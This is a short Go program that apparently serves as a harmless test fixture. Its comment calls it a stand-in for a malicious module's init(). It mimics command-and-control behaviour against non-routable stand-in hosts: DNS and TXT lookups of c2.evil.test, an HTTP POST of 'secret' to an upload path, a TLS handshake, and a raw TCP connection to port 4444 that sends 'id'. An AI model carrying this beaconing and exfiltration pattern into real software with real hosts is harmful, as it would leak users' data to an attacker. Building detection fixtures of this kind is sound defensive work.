// A stand-in for a malicious module's init(): resolves .test names with Go's own resolver,
// posts data over HTTP, starts a TLS handshake with SNI and ALPN, and opens a raw TCP
// connection to a documentation address. Harmless anywhere: .test names never resolve
// and 203.0.113.0/24 is never routed on a real network.
package main

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"strings"
	"time"
)

func main() {
	addrs, err := net.LookupHost("c2.evil.test")
	fmt.Printf("lookup=%v err=%v\n", addrs, err)
	txt, err := net.LookupTXT("cmd.evil.test")
	fmt.Printf("txt=%v err=%v\n", txt, err)

	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Post("http://c2.evil.test/upload", "text/plain", strings.NewReader("secret"))
	if err == nil {
		fmt.Printf("http=%d\n", resp.StatusCode)
		resp.Body.Close()
	} else {
		fmt.Printf("http_err=%v\n", err)
	}

	dialer := &net.Dialer{Timeout: 5 * time.Second}
	_, err = tls.DialWithDialer(dialer, "tcp", "c2.evil.test:443",
		&tls.Config{ServerName: "c2.evil.test", NextProtos: []string{"h2", "http/1.1"}})
	fmt.Printf("tls_err=%v\n", err)

	conn, err := net.DialTimeout("tcp", "203.0.113.10:4444", 5*time.Second)
	if err == nil {
		conn.Write([]byte("id\n"))
		time.Sleep(200 * time.Millisecond)
		conn.Close()
		fmt.Println("raw=ok")
	} else {
		fmt.Printf("raw_err=%v\n", err)
	}
}
